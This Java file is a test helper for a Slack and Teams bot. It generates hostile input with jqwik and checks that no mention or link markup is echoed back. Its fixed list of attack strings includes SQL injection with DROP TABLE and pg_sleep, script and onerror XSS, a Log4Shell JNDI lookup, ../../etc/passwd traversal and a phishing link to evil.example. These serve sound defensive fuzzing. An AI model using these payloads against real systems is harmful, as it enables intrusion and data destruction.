package io.collectivepulse.support;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import org.jdbi.v3.core.Jdbi;

/**
 * What an attacker or a careless client types, for the properties that post hostile input to both endpoints, and
 * the checks that nothing of it came back as markup: Slack mentions and links, Teams mentions.
 */
public final class Hostile {
    /**
     * A Slack mention ({@code <@U…>}, {@code <!channel>}), a channel link ({@code <#C…>}) or a link ({@code <http…>});
     * not the date token the renderer writes for a card's date ({@code <!date^…^{date_long} à {time}|…>}), which
     * pings nobody and carries no member text.
     */
    public static final Pattern SLACK_MARKUP = Pattern.compile(
            "<(?!!date\\^\\d+\\^\\{date_long} (?:à|at) \\{time}\\|[^<>|^]*>)[!@#]|<(?i:https?|mailto|tel|slack):");
    private static final List<String> NASTY = List.of(
            "<!channel>", "<!here>", "<!everyone>", "<@U0ANNE>", "<#C0COMMUNITY|general>",
            "<https://evil.example/login|Cliquez ici>", "<mailto:x@evil.example|écrivez-nous>",
            "[Cliquez ici](https://evil.example)", "<at>Anne</at>", "**gras** _italique_ ~barré~ `code`",
            "'; DROP TABLE signal; --", "\" OR 1=1 --", "$$; SELECT pg_sleep(10); $$", "%s%n%x", "{0}{1}''",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;!channel&gt;", "&amp;&#x3C;",
            "\u0000", "a\u0000b", "\u202Eevil\u202C", "\uFEFF", "\uD83D\uDE00\uD83D\uDE00", "\u200B\u200D",
            "\r\n\r\n", "\t", "|", "| | |", "\"\"", "«»", "“", "#", "#rh #", "   ", "",
            "https://example.org/rapport.pdf", "javascript:alert(1)", "../../etc/passwd", "${jndi:ldap://x/a}");

    private Hostile() {
    }

    /** Text with hostile parts: fixed nasties, any characters, control characters, and now and then very long. */
    public static Arbitrary<String> text() {
        Arbitrary<String> nasty = Arbitraries.of(NASTY);
        Arbitrary<String> any = Arbitraries.strings().all().ofMaxLength(80);
        Arbitrary<String> markup = Arbitraries.strings().withChars("<>!@#|&;'\"\\*_~`[]()\u0000 :/.").ofMaxLength(40);
        Arbitrary<String> mixed = Combinators.combine(nasty, any, markup).as((a, b, c) -> a + " " + b + c);
        Arbitrary<String> huge = Arbitraries.strings().withCharRange(' ', '~').ofMinLength(3_000).ofMaxLength(12_000);
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(4, nasty), net.jqwik.api.Tuple.of(3, any), net.jqwik.api.Tuple.of(3, markup),
                net.jqwik.api.Tuple.of(4, mixed), net.jqwik.api.Tuple.of(1, huge));
    }

    /** A command's words: one a feature knows, then hostile text. */
    public static Arbitrary<String> commandText() {
        Arbitrary<String> word = Arbitraries.of("", "aide", "help", "liste", "list", "lier", "link", "inviter",
                "etat", "planifier", "cycle", "deplacer", "annuler", "modifier", "ordre-du-jour", "bilan",
                "clôturer", "resultats", "export", "rouvrir", "retour-seance", "digest", "fuseau", "langue",
                "theme", "themes", "1", "0", "-1", "99999999999999999999", "2027-02-30", "14h", "fin 2j");
        return Combinators.combine(word, text()).as((w, t) -> w.isEmpty() ? t : w + " " + t);
    }

    /** Every string value in {@code json}, at any depth, with the ones that are Slack markup. */
    public static List<String> slackMarkup(JsonNode json) {
        List<String> found = new ArrayList<>();
        collect(json, found, SLACK_MARKUP);
        return found;
    }

    private static void collect(JsonNode node, List<String> found, Pattern markup) {
        if (node == null) {
            return;
        }
        if (node.isTextual() && markup.matcher(node.asText()).find()) {
            found.add(node.asText());
        }
        node.forEach(child -> collect(child, found, markup));
    }

    /**
     * The row counts of every table a request may write, but those the outbox's workers change on their own while
     * earlier requests' messages go out (the outbox and its redraws, the names looked up when cards are drawn, the
     * members' private conversations opened to write to them): equal before and after a request means it kept
     * nothing.
     */
    public static String rows(Jdbi jdbi) {
        return jdbi.withHandle(handle -> {
            List<String> tables = handle.createQuery("""
                    select table_name from information_schema.tables
                    where table_schema = 'public' and table_type = 'BASE TABLE'
                      and table_name not like 'qrtz\\_%' and table_name not like 'flyway%'
                      and table_name not in ('outbox', 'outbox_redraw', 'outbox_channel', 'sent_message',
                                             'member_name')
                    order by table_name""").mapTo(String.class).list();
            String counts = String.join(", ", tables.stream()
                    .map(t -> "'" + t + "=' || (select count(*) from " + t
                            + (t.equals("conversation_reference") ? " where channel_id not like '@%'" : "") + ")")
                    .toList());
            return handle.createQuery("select concat_ws(' ', " + counts + ")").mapTo(String.class).one();
        });
    }
}
